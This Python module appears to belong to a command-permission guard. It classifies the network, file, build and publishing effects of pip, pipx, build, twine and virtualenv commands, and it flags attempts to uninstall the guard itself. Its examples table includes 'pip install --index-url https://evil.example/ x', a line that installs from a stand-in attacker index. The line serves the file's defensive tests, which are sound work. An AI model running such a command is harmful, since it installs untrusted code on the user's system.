"""Python packages: pip, pipx, virtualenv, twine and build."""

from __future__ import annotations

from assent.commands.config_files import SHELL_STARTUP, kept
from assent.commands.program import Program, changes, turns_off
from assent.commands.projects import both, makes, only_asks, perhaps, reaches, sends, spelled, unless
from assent.commands.said import if_said
from assent.types import Word

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from assent.commands.args import Args
    from assent.commands.program import Fact

PYPI = "https://pypi.org/"
SETUP = ("pyproject.toml", "setup.py", "setup.cfg")
INSTALLS = changes("pkg.install", "Python packages")
REMOVES = changes("pkg.remove", "Python packages")
NAMES_OURS = ("assent", "^-r", "^--r", "^-c", "^--c", "^http", "^-e", "^--e")
"""What a list of packages holds that removes Assent, or names another list or a folder, which may."""


def removes_listed(args: Args) -> Iterator[Fact]:
    """`-r FILE`: whatever the file names is removed; one that is not on this disk may name anything."""
    ours = args.effect("change", "remove or replace what guards it", "assent.settings")
    for word in args.values("-r"):
        value = word.value
        if value is None or "://" in value or value == "-" or value.startswith(("/dev/", "/proc/")):
            yield ours
        else:
            yield from if_said(args, [ours], (value,), *NAMES_OURS)


REMOVES_ALL = (*REMOVES, *changes("assent.settings", "remove every tool of this user, and the one that guards it"))
INTERPRETER = ".venv/bin/python"
ARCHIVES = (".whl", ".tar.gz", ".zip", ".tar.bz2")


@turns_off("--no-index --offline")
def required(args: Args) -> Iterator[Fact]:
    """The packages index, requirement files, and what is installed from a folder or an address."""
    if not args.has("--no-index", "--offline", "-i"):
        yield from args.reach(PYPI)
    for word in args.values("-f"):
        yield from args.act("url" if "://" in (word.value or "") else "list", word)
    for word in args.values("-r", "-c"):
        if word.value is not None and "://" in word.value:
            yield from args.reach(word.value)
        else:
            yield from args.file("read", word)
    for word in args.values("-e"):
        yield from _package(args, word, here=True)
    for word in args.operands:
        yield from _package(args, word, here=False)


def _package(args: Args, word: Word, *, here: bool) -> Iterator[Fact]:
    """A name from the index, a folder whose build code runs, an archive or an address."""
    text = word.value or word.pattern or None  # `name[extra]` without quotes looks like a pattern of files
    if text is None:
        yield args.gap(f"a package is not known ({word.why})", blind=True)
    elif "://" in text:
        url = (
            text.rpartition("@ ")[2].removeprefix("git+").removeprefix("hg+").removeprefix("svn+").removeprefix("bzr+")
        )
        yield from args.reach(url)
        yield args.effect("run", f"the build code of {url}", "program")
    elif text.endswith(ARCHIVES):
        yield from args.act("read", word)
        yield args.effect("run", f"the build code of {text}", "program")
    elif here or text.startswith((".", "/", "~")) or "/" in text:
        folder = text.partition("[")[0]
        yield from args.act("tree", Word(folder, folder))
        yield from args.project(args.name, tuple(f"{folder.rstrip('/')}/{file}" for file in SETUP))


LEVELS_ABOVE = 6
"""How far up the environment of a project is looked for: deeper folders are rare."""


def asks_interpreter(args: Args) -> Iterator[Fact]:
    """Starts the interpreter of the project's environment to look at it; the project may lie above the folder."""
    yield args.effect("note", args.name)
    for path in dict.fromkeys((*args.places(INTERPRETER), *_above(args, INTERPRETER))):
        yield perhaps(args.effect("run", path, "script"))


def _above(args: Args, file: str) -> Iterator[str]:
    for cwd in args.call.cwds:
        folder = cwd.rstrip("/")
        for _ in range(LEVELS_ABOVE):
            if not folder:
                break
            folder = folder.rpartition("/")[0]
            yield f"{folder}/{file}"


def _listed(args: Args) -> Iterator[Fact]:
    if args.has("-o", "-u"):
        yield from args.reach(PYPI)


# --- pip -----------------------------------------------------------------------------------------------------------

PIP = (
    " -h,--help --debug --isolated --require-virtualenv --python=run --verbose -V,--version -q,--quiet --log=write"
    " --no-input --proxy=url --retries= --timeout= --exists-action= --trusted-host= --cert=read --client-cert=read"
    " --cache-dir=into --no-cache-dir --disable-pip-version-check --no-color --no-python-version-warning --use-feature="
    " --use-deprecated= --keyring-provider="
)
VERBOSE = f"{PIP} -v"
INDEX = " -i,--index-url=url --extra-index-url=url --no-index -f,--find-links="
BUILDING = (
    f"{VERBOSE}{INDEX} -r,--requirement= -c,--constraint= --no-deps --pre --platform= --python-version="
    " --implementation="
    " --abi= --no-build-isolation --use-pep517 --no-use-pep517 --check-build-dependencies --no-binary= --only-binary="
    " --prefer-binary --require-hashes --progress-bar= --no-clean --ignore-requires-python -C,--config-settings="
    " --src=into"
    " -e,--editable= --group="
)
PIP_INSTALL = Program(
    f"{BUILDING} --dry-run -t,--target=into --user --root=into --prefix=into -U,--upgrade --upgrade-strategy="
    " --force-reinstall -I,--ignore-installed --break-system-packages --compile --no-compile --no-warn-script-location"
    " --no-warn-conflicts --root-user-action= --report=write",
    "text*",
    does=INSTALLS,
    more=required,
)
PIP_LIST = Program(
    f"{VERBOSE}{INDEX} -o,--outdated -u,--uptodate -e,--editable -l,--local --user --path=tree --pre --format="
    " --not-required --exclude-editable --include-editable --exclude=",
    more=_listed,
)
PIP_FREEZE = Program(
    f"{VERBOSE} -r,--requirement=read -l,--local --path=tree --user --all --exclude-editable --exclude=",
)
PIP_SHOWN = (("note", "settings of pip, also passwords in addresses", "secret.print"),)
PIP_LEVELS = f"{VERBOSE} --global --user --site --editor=run"


def _pip_settings(args: Args) -> Iterator[Fact]:
    """Where packages come from, for this user, the whole machine or one environment."""
    yield args.effect("change", "settings of pip", "pkg.settings")
    given = {name for at in (args, args.parent) if at is not None for name in at.given}
    if "--global" in given:
        yield from kept(args, "write", "/etc/pip.conf")
    elif "--site" in given:
        yield from args.file("write", Word(".venv/pip.conf", ".venv/pip.conf"))
    else:
        yield from kept(args, "write", "~/.config/pip/pip.conf")


def _pip_edits(args: Args) -> Iterator[Fact]:
    yield from _pip_settings(args)
    yield args.gap("starts an editor")


PIP_CONFIG = {
    "list": Program(PIP_LEVELS, does=PIP_SHOWN),
    "get": Program(PIP_LEVELS, "text", does=PIP_SHOWN),
    "debug": Program(PIP_LEVELS, does=PIP_SHOWN),
    "set": Program(PIP_LEVELS, "text*", more=_pip_settings),
    "unset": Program(PIP_LEVELS, "text*", more=_pip_settings),
    "edit": Program(PIP_LEVELS, more=_pip_edits),
}
PIP_PROGRAM = Program(
    VERBOSE,
    commands={
        "install": PIP_INSTALL,
        "download": Program(
            f"{BUILDING} -d,--dest=into",
            "text*",
            does=INSTALLS,
            more=both(required, unless("-d", makes("*.whl", "*.tar.gz"))),
        ),
        "wheel": Program(
            f"{BUILDING} -w,--wheel-dir=into", "text*", does=INSTALLS, more=both(required, unless("-w", makes("*.whl")))
        ),
        "uninstall": Program(
            f"{VERBOSE} -r,--requirement=read -y,--yes --root-user-action= --break-system-packages",
            "text*",
            does=REMOVES,
            more=removes_listed,
        ),
        "list": PIP_LIST,
        "show": Program(f"{VERBOSE} -f,--files", "text*"),
        "freeze": PIP_FREEZE,
        "check": Program(VERBOSE),
        "inspect": Program(f"{VERBOSE} --local --user --path=tree"),
        "debug": Program(f"{VERBOSE} --platform= --python-version= --implementation= --abi="),
        "hash": Program(f"{VERBOSE} -a,--algorithm=", "read*"),
        "help": Program("", "text*"),
        "completion": Program("-b,--bash -z,--zsh -f,--fish -p,--powershell"),
        "search": Program(f"{VERBOSE}{INDEX}", "text*", more=reaches(PYPI)),
        "index": Program(
            VERBOSE,
            commands={
                "versions": Program(f"{VERBOSE}{INDEX} --pre --python-version= --json", "text*", more=reaches(PYPI))
            },
            style="bare",
        ),
        "config": Program(PIP_LEVELS, commands=PIP_CONFIG, style="bare"),
        "cache": Program(
            VERBOSE,
            commands={
                "dir": Program(VERBOSE),
                "info": Program(VERBOSE),
                "list": Program(f"{VERBOSE} --format=", "text*"),
                "remove": Program(VERBOSE, "text*", does=changes("pkg.cache", "the cache of pip")),
                "purge": Program(VERBOSE, does=changes("pkg.cache", "the cache of pip")),
            },
            style="bare",
        ),
    },
    style="bare",
)


def downloaded(args: Args, url: str) -> Iterator[Fact]:
    """`uvx`, `pipx run`: fetches a package and runs its program."""
    yield from args.reach(url)
    if not args.operands:
        return
    first = args.operands[0]
    yield args.effect("run", spelled(args.operands), "program")
    if any(word.value in ("publish", "upload") for word in args.operands[1:]):
        yield args.effect("send", "where packages are published", "pkg.publish")
    yield args.gap("what a downloaded program does is not known", blind=first.value is None)


# --- the others ----------------------------------------------------------------------------------------------------

PIPX_QUIET = " -h,--help -q,--quiet -v,--verbose --global"
PIPX = Program(
    f"{PIPX_QUIET} --version",
    commands={
        "run": Program(
            f"{PIPX_QUIET} --spec= --no-cache --with= --python= -i,--index-url=url --pip-args= --path",
            "text*",
            does=INSTALLS,
            style="posix",
            more=lambda args: downloaded(args, PYPI),
        ),
        "list": Program(f"{PIPX_QUIET} --include-injected --json --short --skip-maintenance --pinned"),
        "environment": Program(f"{PIPX_QUIET} -V,--value="),
        "install": Program(
            f"{PIPX_QUIET} --include-deps -f,--force --suffix= --python= --preinstall= --system-site-packages"
            " -i,--index-url=url -e,--editable --pip-args= --fetch-missing-python",
            "text*",
            does=INSTALLS,
            more=required,
        ),
        "inject": Program(
            f"{PIPX_QUIET} --include-apps --include-deps -f,--force -i,--index-url=url --pip-args=",
            "text*",
            does=INSTALLS,
            more=required,
        ),
        "upgrade": Program(
            f"{PIPX_QUIET} --include-injected -f,--force -i,--index-url=url --pip-args=",
            "text*",
            does=INSTALLS,
            more=reaches(PYPI),
        ),
        "upgrade-all": Program(
            f"{PIPX_QUIET} --include-injected -f,--force --skip=", does=INSTALLS, more=reaches(PYPI)
        ),
        "reinstall": Program(f"{PIPX_QUIET} --python=", "text*", does=INSTALLS, more=reaches(PYPI)),
        "uninstall": Program(PIPX_QUIET, "text*", does=REMOVES),
        "uninstall-all": Program(PIPX_QUIET, does=REMOVES_ALL),
        "ensurepath": Program(
            f"{PIPX_QUIET} -f,--force --prepend --all-shells",
            does=changes("shell.startup", "the startup files of the shell", *SHELL_STARTUP),
        ),
    },
    style="bare",
)


@turns_off("-o")
def _built(args: Args) -> Iterator[Fact]:
    """`python -m build [FOLDER]` runs the build code of a folder."""
    if only_asks(args):
        return
    folder = args.operands[0].value if args.operands else "."
    yield from args.act("tree", args.operands[0] if args.operands else Word(".", "."))
    yield from args.project("build", tuple(f"{folder or '.'}/{file}" for file in SETUP))
    yield from args.reach(PYPI)
    if not args.has("-o"):
        yield from makes(f"{folder or '.'}/dist/")(args)


BUILD = Program(
    "-h,--help -V,--version -v,--verbose -s,--sdist -w,--wheel -o,--outdir=into -x,--skip-dependency-check"
    " -n,--no-isolation -C,--config-setting= --installer=",
    "text?",
    more=_built,
)
TWINE = Program(
    "-h,--help --version --no-color",
    commands={
        "check": Program("--strict", "read*"),
        "upload": Program(
            "-r,--repository= --repository-url=url -u,--username= -p,--password= --non-interactive --skip-existing"
            " --verbose --disable-progress-bar --config-file=read --cert=read",
            "read*",
            does=changes("pkg.publish", "a Python package"),
            more=sends("https://upload.pypi.org/"),
        ),
    },
    style="bare",
)
VIRTUALENV = Program(
    "-h,--help --version -v,--verbose -q,--quiet -p,--python=run --clear --system-site-packages --symlinks --copies"
    " --no-pip --no-setuptools --no-wheel --prompt= --pip= --setuptools= --download --no-download",
    "into",
)

PROGRAMS = {
    "pip": PIP_PROGRAM,
    "pip3": PIP_PROGRAM,
    "pipx": PIPX,
    "pyproject-build": BUILD,
    "twine": TWINE,
    "virtualenv": VIRTUALENV,
}

EXAMPLES = {
    "pip list": "note pip list",
    "pip list --outdated": "reach https://pypi.org/",
    "pip3 show -f requests": "note pip3 show",
    "pip freeze": "note pip freeze",
    "pip --version": "note pip",
    "pip check": "note pip check",
    "pip config list": "note settings of pip, also passwords in addresses #secret.print",
    "pip config debug": "note settings of pip, also passwords in addresses #secret.print",
    "pip config set global.index-url https://x.example/": "change settings of pip #pkg.settings | write"
    " ~/.config/pip/pip.conf",
    "pip cache dir": "note pip cache dir",
    "pip index versions requests": "reach https://pypi.org/",
    "pip install requests": "change Python packages #pkg.install | reach https://pypi.org/",
    "pip install -U -r requirements.txt": "change Python packages #pkg.install | reach https://pypi.org/"
    " | read requirements.txt",
    "pip install -e '.[dev]'": "change Python packages #pkg.install | reach https://pypi.org/ | read ./**"
    " | run pip install #project",
    "pip install git+https://github.com/x/y": "change Python packages #pkg.install | reach https://pypi.org/"
    " | reach https://github.com/x/y | run the build code of https://github.com/x/y #program",
    "pip install ./a.whl": "change Python packages #pkg.install | reach https://pypi.org/ | read ./a.whl"
    " | run the build code of ./a.whl #program",
    "pip install --target out requests": "write out/** | change Python packages #pkg.install | reach https://pypi.org/",
    "pip install --index-url https://evil.example/ x": "reach https://evil.example/"
    " | change Python packages #pkg.install",
    "pip install $X": "change Python packages #pkg.install | reach https://pypi.org/"
    " | blind pip install: a word is not known (variable X) | blind pip install: a package is not known (variable X)",
    "pip install --global-option=x y": "change Python packages #pkg.install | reach https://pypi.org/"
    " | gap pip install: option --global-option is not known",
    "pip uninstall -y requests": "change Python packages #pkg.remove",
    "pip download x -d out": "write out/** | change Python packages #pkg.install | reach https://pypi.org/",
    "pip --python ./p list": "run ./p #program | note pip list",
    "pip wobble": "run pip wobble #program | gap pip: subcommand wobble is not known",
    "pipx list": "note pipx list",
    "pipx run cowsay": "change Python packages #pkg.install | reach https://pypi.org/ | run cowsay #program"
    " | gap pipx run: what a downloaded program does is not known",
    "pipx install black": "change Python packages #pkg.install | reach https://pypi.org/",
    "pyproject-build": "read ./** | run build #project | reach https://pypi.org/ | write ./dist/**",
    "twine check dist/a.whl": "read dist/a.whl",
    "twine upload dist/a.whl": "change a Python package #pkg.publish | read dist/a.whl | send https://upload.pypi.org/",
    "virtualenv .venv": "write .venv/**",
    "python3 -m pip list": "note pip list | maybe run pip.py #script",
    "pip install transformers[torch]": "change Python packages #pkg.install | reach https://pypi.org/",
}
